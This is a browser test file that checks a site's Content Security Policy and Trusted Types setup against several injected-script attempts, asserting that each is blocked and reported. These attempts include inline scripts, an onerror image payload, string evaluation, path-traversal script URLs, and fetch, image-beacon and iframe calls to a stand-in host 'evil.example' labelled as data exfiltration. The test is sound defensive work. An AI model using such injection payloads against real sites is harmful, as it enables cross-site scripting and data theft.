import { expect, open, test } from '../support/site/site';

/** Attempts of an injected script. Each must be blocked and reported. Trusted Types make some of them throw. */
const BREACHES: Record<string, () => unknown> = {
  'an inline script': () => {
    const script = document.createElement('script');
    script.append('window.ran = true');
    document.body.append(script);
  },
  'an inline handler': () => {
    document.body.setAttribute('onclick', 'window.ran = true');
    document.body.click();
  },
  'text as HTML': () =>
    document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran = true">'),
  'text as code': () => setTimeout('window.ran = true', 0),
  'another Trusted Types policy': () =>
    Reflect.get(window, 'trustedTypes').createPolicy('mine', { createHTML: (html: string) => html }),
  'a connection to another site': () => fetch('https://evil.example/').catch(() => {}),
  'an image that exfiltrates data': () =>
    document.body.append(Object.assign(new Image(), { src: 'https://evil.example/?data' })),
  'a base element': () =>
    document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' })),
  'an iframe from another site': () =>
    document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' })),
};

test('what an injected script would try is blocked and reported; the only Trusted Types policy for scripts accepts the site’s own alone', async ({
  context,
  violations,
}) => {
  // The `page` fixture would fail on these errors.
  const page = await context.newPage();
  await open(page, '/about');
  expect(violations).toEqual([]);
  const listRefused = (sources: readonly string[]) =>
    page.evaluate(
      (all) =>
        all.filter((src) => {
          try {
            document.createElement('script').src = src;
            return false;
          } catch {
            return true;
          }
        }),
      sources,
    );
  const foreign = [
    'https://evil.example/x.js',
    '//evil.example/_next/static/x.js',
    'data:text/javascript,window.ran=true',
    'blob:https://evil.example/x',
    'javascript:window.ran=true',
    '/api/site-index.json',
    '/_next/static/../../api/health',
    '/_next/static/%2e%2e/%2e%2e/api/health',
    '/images/x.js',
  ];
  expect(await listRefused([...foreign, '/_next/static/chunks/x.js', '/sw.js'])).toEqual(foreign);

  for (const [name, breach] of Object.entries(BREACHES)) {
    const before = violations.length;
    await page.evaluate(breach).catch(() => {});
    await expect.poll(() => violations.length, name).toBeGreaterThan(before);
    expect(await page.evaluate(() => Reflect.get(window, 'ran')), name).toBeUndefined();
  }
  await page.close();
  // These violations were intended.
  violations.length = 0;
});
